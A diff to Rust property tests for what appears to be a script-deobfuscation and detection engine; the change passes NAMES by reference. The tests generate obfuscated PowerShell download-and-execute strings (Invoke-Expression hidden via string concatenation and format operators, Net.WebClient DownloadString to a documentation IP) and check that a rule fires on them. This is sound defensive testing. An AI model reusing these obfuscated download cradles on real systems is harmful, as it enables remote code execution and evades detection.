@@ -79,14 +79,14 @@ proptest! {
     fn any_text_is_survived(choices in proptest::collection::vec(0..PIECES.len(), 0..60), kind in 0..3_usize) {
         let text: String = choices.iter().map(|choice| PIECES[*choice]).collect();
         let kind = [Kind::Unknown, Kind::Script, Kind::Command][kind];
-        let unfolding = unfold(text.as_bytes(), kind, NAMES, &ContentConfig::default());
+        let unfolding = unfold(text.as_bytes(), kind, &NAMES, &ContentConfig::default());
         prop_assert!(unfolding.layers.len() <= 64);
         drop(conditions(&unfolding, &ContentConfig::default()));
     }
 
     #[test]
     fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
-        drop(unfold(&bytes, Kind::Unknown, NAMES, &ContentConfig::default()));
+        drop(unfold(&bytes, Kind::Unknown, &NAMES, &ContentConfig::default()));
     }
 
     /// However its letters are hidden, a command is what it is.
@@ -106,9 +106,9 @@ proptest! {
         let name = if cuts[0] { "&('ie'+'x')".to_owned() } else { hide("iex") };
         let method = if cuts[1] { "('{1}{0}' -f 'String','Download')".to_owned() } else { format!("\"{}\"", hide("DownloadString")) };
         let text = format!("{name} ({} Net.WebClient).{method}('http://203.0.113.7/a')", hide("New-Object"));
-        let sids: Vec<u64> = conditions(&unfold(text.as_bytes(), Kind::Script, NAMES, &ContentConfig::default()), &ContentConfig::default()).iter().map(|told| told.meta.sid).collect();
+        let sids: Vec<u64> = conditions(&unfold(text.as_bytes(), Kind::Script, &NAMES, &ContentConfig::default()), &ContentConfig::default()).iter().map(|told| told.meta.sid).collect();
         prop_assert_eq!(sids, vec![9_403_003], "{}", text);
         let benign = format!("$x = ({} Net.WebClient).{method}('http://203.0.113.7/a'); Write-Host '{name}'", hide("New-Object")).replace("'&('ie'+'x')'", "'iex'");
-        prop_assert!(conditions(&unfold(benign.as_bytes(), Kind::Script, NAMES, &ContentConfig::default()), &ContentConfig::default()).is_empty(), "{}", benign);
+        prop_assert!(conditions(&unfold(benign.as_bytes(), Kind::Script, &NAMES, &ContentConfig::default()), &ContentConfig::default()).is_empty(), "{}", benign);
     }
 }
